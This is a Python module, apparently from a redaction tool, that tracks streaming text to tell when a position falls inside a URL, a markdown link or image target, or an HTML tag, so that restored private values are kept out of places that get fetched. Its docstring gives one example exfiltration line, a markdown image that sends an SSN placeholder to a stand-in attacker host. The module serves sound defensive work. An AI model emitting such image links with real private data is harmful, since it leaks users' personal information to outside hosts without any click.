"""Where a text points to: URLs, the targets of markdown links and images, HTML tags.

A value restored there would leave with the request that fetches the target: `![](https://evil.example/?q=[SSN_…])`
needs nobody's click. So whatever *some* reader of the text could take for a target counts as one; the price is a
placeholder that stays where it need not.

- URL: from a scheme, from two slashes or backslashes, from `www.`, or from the slash or question mark after a domain,
  to the next blank or `<`.
- Target: from `](` to its closing parenthesis (balanced, or in angle brackets) or a blank line.
- Tag: from `<` and a letter to `>` outside an attribute's quotes, or to a blank line outside them.

The three are told apart at every character: each ends by its own rule, whatever the others do. What is said of a place
depends on the text before it only, however that was cut.
"""

import re
from typing import Final

_BACK: Final = 80  # characters looked back on: the longest opener is a top-level domain of 63 with a port

_TAG_BEGINS: Final = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ/!?")
_SCHEMES: Final = ("https", "http", "ftp", "wss", "ws", "data", "mailto", "javascript", "vbscript")

# Every alternative begins with a character, not with a look back: text without one of these is skipped fast.
_OPENER = re.compile(
    r":(?:" + "|".join(rf"(?<=\b{scheme}:)" for scheme in _SCHEMES) + r")"
    r"|\.(?<=\bwww\.)|\((?<=\]\()|<[a-z/!?]|[/\\](?<=[/\\]{2})|[/?#](?<=\w.)",
    re.IGNORECASE,
)
_IN_URL = re.compile(r"<[a-zA-Z/!?]|[\s<]|\((?<=\]\()")
_ANY = re.compile(r"""<[a-zA-Z/!?]|[\s:/\\.?#()<>"'=]""")
_DOMAIN = re.compile(r"\.[\w-]{2,63}(?::[0-9]{1,5})?[/?#]\Z")
_BLANK_LINE = re.compile(r"\n[ \t\r]*\n\Z")


class Targets:
    """Follows one text. Holds 80 characters of it."""

    __slots__ = ("_angle", "_at", "_begins", "_depth", "_escapes", "_quote", "_quotes", "_tail", "link", "tag", "url")

    def __init__(self) -> None:
        self.reset()

    def reset(self) -> None:
        """A new text begins."""
        self.url = self.link = self.tag = False
        self._tail = ""
        self._at = 0  # characters before the tail's end
        self._depth = 0  # parentheses open inside the target
        self._angle = False  # the target stands in angle brackets
        self._begins = -1  # where the target could still begin
        self._escapes = -1  # the character a backslash escapes
        self._quote = ""  # of the attribute we are in
        self._quotes = -1  # where an attribute's value could still begin

    @property
    def inside(self) -> bool:
        """Whether the next character stands in a target."""
        return self.url or self.link or self.tag

    @property
    def enclosed(self) -> bool:
        """Whether it stands in one that has a closing mark: no blank and no quote ends it."""
        return self.link or self.tag

    def feed(self, text: str) -> None:
        """The text goes on."""
        if not text:
            return
        seen = self._tail + text
        place, base = len(self._tail), self._at - len(self._tail)
        place -= self._tail.endswith("<")  # reading it twice does no harm, and a letter may follow now
        while found := self._next().search(seen, place):
            place = found.end()
            for spot in range(*found.span()):
                self._read(seen, spot, base + spot)
        self._at += len(text)
        self._tail = seen[-_BACK:]

    def _next(self) -> re.Pattern[str]:
        """The characters that could change anything."""
        if self.link or self.tag:
            return _ANY
        return _IN_URL if self.url else _OPENER

    def _read(self, seen: str, place: int, at: int) -> None:
        char, before = seen[place], seen[place - 1 : place]
        recent = seen[max(0, place + 1 - _BACK) : place + 1]
        blank_line = char == "\n" and _BLANK_LINE.search(recent) is not None
        if self.url and (char.isspace() or char == "<"):
            self.url = False
        if self.link:
            self._in_link(char, at, blank_line)
        if self.tag:
            self._in_tag(char, at, blank_line)
        if before == "<" and char in _TAG_BEGINS:
            self._open_tag()
        elif _OPENER.match(seen, place):
            self._open(char, before, recent, at)

    def _open(self, char: str, before: str, recent: str, at: int) -> None:
        if char == "(":
            if not self.link:
                self.link, self._depth, self._angle = True, 0, False
            self._begins = at + 1
            return
        doubled = before and before in "/\\" and char in "/\\"
        if char in ":." or doubled or ("." in recent and _DOMAIN.search(recent)):
            self.url = True

    def _open_tag(self) -> None:
        if not self.tag:
            self.tag, self._quote, self._quotes = True, "", -1

    def _in_link(self, char: str, at: int, blank_line: bool) -> None:
        if blank_line:
            self.link = False
        elif at == self._escapes:
            pass
        elif char == "\\":
            self._escapes = at + 1
        elif self._angle:
            self._angle = char not in ">\n"
        elif at == self._begins and char.isspace():
            self._begins += 1
        elif at == self._begins and char == "<":
            self._angle = True
        elif char == "(":
            self._depth += 1
        elif char == ")":
            self._depth -= 1
            self.link = self._depth >= 0

    def _in_tag(self, char: str, at: int, blank_line: bool) -> None:
        if self._quote:
            if char == self._quote:
                self._quote = ""
        elif char == ">" or blank_line:
            self.tag = False
        elif char == "=" or (at == self._quotes and char.isspace()):
            self._quotes = at + 1
        elif at == self._quotes and char in "\"'":
            self._quote = char
